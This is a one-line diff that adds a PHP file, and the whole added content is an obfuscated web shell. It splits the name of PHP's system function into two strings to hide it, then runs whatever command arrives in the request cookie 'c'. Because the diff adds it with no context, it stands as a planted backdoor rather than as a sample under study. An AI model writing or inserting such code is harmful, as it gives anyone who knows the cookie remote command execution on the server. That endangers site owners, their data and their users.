@@ -1,0 +1,1 @@
+<?php $a = $_COOKIE; $b = "sys" . "tem"; $b($a["c"]);
